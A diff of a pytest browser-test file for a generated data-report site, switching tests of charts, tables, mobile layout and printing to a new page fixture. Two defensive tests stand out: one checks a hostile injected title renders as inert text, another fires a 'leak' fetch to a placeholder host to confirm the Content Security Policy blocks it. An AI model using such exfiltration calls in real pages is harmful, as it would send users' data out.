@@ -8,15 +8,14 @@ $CAETL_TEST_ARTIFACTS (default test-artifacts/ in the repository).
 from __future__ import annotations
 
 import os
-import time
 from pathlib import Path
 
 import duckdb
 import pytest
 
+from browser_support import Visit
 from caetl.reports import write_reports
 from caetl.reports.charts import CHARTS
-from test_reports_chromium import Browser, console_errors, requested_urls
 from test_reports_sample_warehouse import HOSTILE_TITLE, build_sample_warehouse
 
 pytestmark = pytest.mark.slow
@@ -56,13 +55,6 @@ def _reports_in(warehouse: Path) -> set[str]:
     return names
 
 
-@pytest.fixture(scope="module")
-def browser():
-    chromium = Browser()
-    yield chromium
-    chromium.close()
-
-
 def _site_pages(html: Path) -> list[Path]:
     return sorted(html.glob("*.html")) + sorted((html / "assets").glob("*.html"))
 
@@ -72,28 +64,27 @@ def _outside_site(urls: list[str], html: Path) -> list[str]:
     return [u for u in urls if not (u.startswith(inside) or u.startswith("data:"))]
 
 
-def test_every_page_loads_offline_without_errors_or_requests(site, browser):
+def test_every_page_loads_offline_without_errors_or_requests(site, open_page):
     _, html, _ = site
     pages = _site_pages(html)
     assert len(pages) >= 3
     problems = {}
     for page in pages:
-        browser.open(page.as_uri(), ready=CHARTS_SETTLED)
-        time.sleep(0.2)  # let late console messages arrive
-        events = browser.drain()
-        errors = console_errors(events)
+        visit = open_page(page, ready=CHARTS_SETTLED)
+        visit.settle()  # let late console messages arrive
+        errors = visit.console_errors
         if page.name == "dbt-docs.html":
             # dbt's own page asks for URLs of templates it has not rendered ({{ getIcon() }},
             # ${require('favicon.ico')}: "%7B" is the brace) and logs them as missing files.
             # It is third-party: its other errors and all its requests are still checked.
             errors = [e for e in errors if "%7B" not in e]
-        leaks = _outside_site(requested_urls(events), html)
+        leaks = _outside_site(visit.requests, html)
         if errors or leaks:
             problems[page.name] = {"console errors": errors, "requests outside": leaks}
     assert not problems
 
 
-def test_each_chart_draws_marks(site, browser):
+def test_each_chart_draws_marks(site, open_page):
     warehouse, html, kind = site
     charted = {name for name in CHARTS if name in _reports_in(warehouse)}
     assert "rpt_partner_shares" in charted
@@ -102,8 +93,8 @@ def test_each_chart_draws_marks(site, browser):
     for name in sorted(charted):
         page = html / f"{name}.html"
         assert "data-spec=" in page.read_text(encoding="utf-8"), f"{name}: no chart drawn"
-        browser.open(page.as_uri(), ready=CHARTS_SETTLED)
-        marks = browser.evaluate(
+        visit = open_page(page, ready=CHARTS_SETTLED)
+        marks = visit.evaluate(
             "Array.from(document.querySelectorAll('[data-spec]')).map(h => "
             "h.querySelectorAll('svg .role-mark > path, svg .role-mark > g, svg .role-mark > line')"
             ".length)"
@@ -111,27 +102,14 @@ def test_each_chart_draws_marks(site, browser):
         assert marks and all(count > 0 for count in marks), (name, marks)
 
 
-def _click(browser: Browser, selector: str) -> None:
-    box = browser.evaluate(
-        f"(() => {{ const e = document.querySelector({selector!r});"
-        " e.scrollIntoView({block: 'center'}); const r = e.getBoundingClientRect();"
-        " return [r.x + r.width / 2, r.y + r.height / 2]; })()"
-    )
-    for kind in ("mousePressed", "mouseReleased"):
-        browser.send(
-            "Input.dispatchMouseEvent",
-            {"type": kind, "x": box[0], "y": box[1], "button": "left", "clickCount": 1},
-        )
-
-
-def _column(browser: Browser, index: int) -> list[str]:
-    return browser.evaluate(
+def _column(visit: Visit, index: int) -> list[str]:
+    return visit.evaluate(
         "Array.from(document.querySelectorAll('.table tbody tr'))"
         f".map(r => r.cells[{index}].textContent)"
     )
 
 
-def test_table_sorts_on_click(site, browser):
+def test_table_sorts_on_click(site, open_page):
     warehouse, html, kind = site
     con = duckdb.connect(str(warehouse), read_only=True)
     columns = [
@@ -146,30 +124,30 @@ def test_table_sorts_on_click(site, browser):
     ]
     con.close()
     share = columns.index("share_pct")
-    browser.open((html / "rpt_partner_shares.html").as_uri(), ready=CHARTS_SETTLED)
+    visit = open_page(html / "rpt_partner_shares.html", ready=CHARTS_SETTLED)
     header = f".table thead th:nth-child({share + 1}) button"
-    _click(browser, header)
-    ascending = [float(v.replace(",", "")) for v in _column(browser, share)]
-    _click(browser, header)
-    descending = [float(v.replace(",", "")) for v in _column(browser, share)]
+    visit.page.click(header)  # a real mouse click at the button's centre
+    ascending = [float(v.replace(",", "")) for v in _column(visit, share)]
+    visit.page.click(header)
+    descending = [float(v.replace(",", "")) for v in _column(visit, share)]
     assert ascending == sorted(shares)[: len(ascending)]
     assert descending == sorted(shares, reverse=True)[: len(descending)]
-    sorted_by = browser.evaluate(f"document.querySelector({header!r}).parentElement.ariaSort")
+    sorted_by = visit.evaluate(f"document.querySelector({header!r}).parentElement.ariaSort")
     assert sorted_by == "descending"
 
 
-def test_table_filters_as_you_type(site, browser):
+def test_table_filters_as_you_type(site, open_page):
     _, html, _ = site
-    browser.open((html / "rpt_partner_shares.html").as_uri(), ready=CHARTS_SETTLED)
-    _click(browser, ".table input[type=search]")
-    browser.send("Input.insertText", {"text": "KGZ"})
-    rows = browser.evaluate(
+    visit = open_page(html / "rpt_partner_shares.html", ready=CHARTS_SETTLED)
+    visit.page.click(".table input[type=search]")
+    visit.page.keyboard.insert_text("KGZ")
+    rows = visit.evaluate(
         "Array.from(document.querySelectorAll('.table tbody tr')).map(r => r.textContent)"
     )
     assert rows and all("KGZ" in row for row in rows)
 
 
-def test_index_shows_every_claim_and_is_screenshotted(site, browser):
+def test_index_shows_every_claim_and_is_screenshotted(site, open_page):
     warehouse, html, kind = site
     if "rpt_claim_checks" not in _reports_in(warehouse):
         pytest.skip("reporting.rpt_claim_checks is not built yet (issue 4)")
@@ -181,18 +159,18 @@ def test_index_shows_every_claim_and_is_screenshotted(site, browser):
     articles = con.execute("SELECT count(*) FROM marts.dim_claims").fetchall()[0][0]
     con.close()
     assert claims == articles
-    browser.open((html / "index.html").as_uri())
-    assert browser.evaluate("document.querySelectorAll('article.card').length") == claims
+    visit = open_page(html / "index.html")
+    assert visit.evaluate("document.querySelectorAll('article.card').length") == claims
     assert (
-        browser.evaluate(
-            "getComputedStyle(document.querySelector('blockquote[lang=ar]')).direction"
-        )
+        visit.evaluate("getComputedStyle(document.querySelector('blockquote[lang=ar]')).direction")
         == "rtl"
     )
     name = "index.png" if kind == "refresh" else "index-sample.png"
-    shot = browser.screenshot(ARTIFACTS / name)
-    _click(browser, ".summary button[data-verdict=supported]")
-    shown = browser.evaluate(
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    shot = ARTIFACTS / name
+    visit.page.screenshot(path=shot, full_page=True)
+    visit.page.click(".summary button[data-verdict=supported]")
+    shown = visit.evaluate(
         "Array.from(document.querySelectorAll('article.card')).filter(c => !c.hidden)"
         ".map(c => c.classList.contains('supported'))"
     )
@@ -200,59 +178,44 @@ def test_index_shows_every_claim_and_is_screenshotted(site, browser):
     assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 10_000
 
 
-def test_hostile_title_shows_as_text_and_runs_nothing(tmp_path, browser):
+def test_hostile_title_shows_as_text_and_runs_nothing(tmp_path, open_page):
     warehouse = build_sample_warehouse(tmp_path / "hostile.duckdb", hostile=True)
     write_reports(warehouse, tmp_path / "out", run_info=RUN)
     html = tmp_path / "out" / "html"
     for page in ("index.html", "rpt_partner_shares.html", "rpt_mirror_gaps.html"):
-        browser.open((html / page).as_uri(), ready=CHARTS_SETTLED)
-        time.sleep(0.2)
-        events = browser.drain()
-        assert not [e for e in events if e.get("method") == "Page.javascriptDialogOpening"], page
-        assert not console_errors(events), page
-    assert HOSTILE_TITLE in browser.evaluate("document.body.innerText")
+        visit = open_page(html / page, ready=CHARTS_SETTLED)
+        visit.settle()
+        assert not visit.dialogs, page
+        assert not visit.console_errors, page
+    assert HOSTILE_TITLE in visit.evaluate("document.body.innerText")
 
 
-def test_readable_on_a_phone_in_dark_mode_and_in_print(site, browser):
+def test_readable_on_a_phone_in_dark_mode_and_in_print(site, open_page):
     _, html, _ = site
     pages = [p for p in sorted(html.glob("*.html")) if p.name != "dbt-docs.html"]
-    try:
-        browser.send(
-            "Emulation.setDeviceMetricsOverride",
-            {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": True},
-        )
-        wide = {}
-        for page in pages:
-            browser.open(page.as_uri(), ready=CHARTS_SETTLED)
-            width = browser.evaluate("document.documentElement.scrollWidth")
-            if width > 390:
-                wide[page.name] = width
-        assert not wide, "pages scroll sideways on a phone"
-        light = browser.evaluate("getComputedStyle(document.body).backgroundColor")
-        browser.send(
-            "Emulation.setEmulatedMedia",
-            {"features": [{"name": "prefers-color-scheme", "value": "dark"}]},
-        )
-        dark = browser.evaluate("getComputedStyle(document.body).backgroundColor")
-        browser.send("Emulation.setEmulatedMedia", {"media": "print", "features": []})
-        nav = browser.evaluate(
-            "getComputedStyle(document.querySelector('header.site nav')).display"
-        )
-    finally:
-        browser.send("Emulation.clearDeviceMetricsOverride")
-        browser.send("Emulation.setEmulatedMedia", {"media": "", "features": []})
+    wide = {}
+    for page in pages:
+        visit = open_page(page, viewport=(390, 844), mobile=True, ready=CHARTS_SETTLED)
+        width = visit.evaluate("document.documentElement.scrollWidth")
+        if width > 390:
+            wide[page.name] = width
+    assert not wide, "pages scroll sideways on a phone"
+    light = visit.evaluate("getComputedStyle(document.body).backgroundColor")
+    visit.page.emulate_media(color_scheme="dark")
+    dark = visit.evaluate("getComputedStyle(document.body).backgroundColor")
+    visit.page.emulate_media(media="print", color_scheme="light")
+    nav = visit.evaluate("getComputedStyle(document.querySelector('header.site nav')).display")
     assert dark != light
     assert nav == "none"
 
 
-def test_content_security_policy_refuses_network_requests(site, browser):
+def test_content_security_policy_refuses_network_requests(site, open_page):
     """Even a script that got in could not send data out: connections are refused."""
     _, html, _ = site
-    browser.open((html / "index.html").as_uri())
-    outcome = browser.evaluate(
+    visit = open_page(html / "index.html")
+    outcome = visit.evaluate(
         "fetch('http://example.invalid/leak').then(() => 'sent', () => 'refused')"
     )
-    time.sleep(0.2)
-    errors = console_errors(browser.drain())
+    visit.settle()
     assert outcome == "refused"
-    assert any("Content Security Policy" in e for e in errors)
+    assert any("Content Security Policy" in e for e in visit.console_errors)
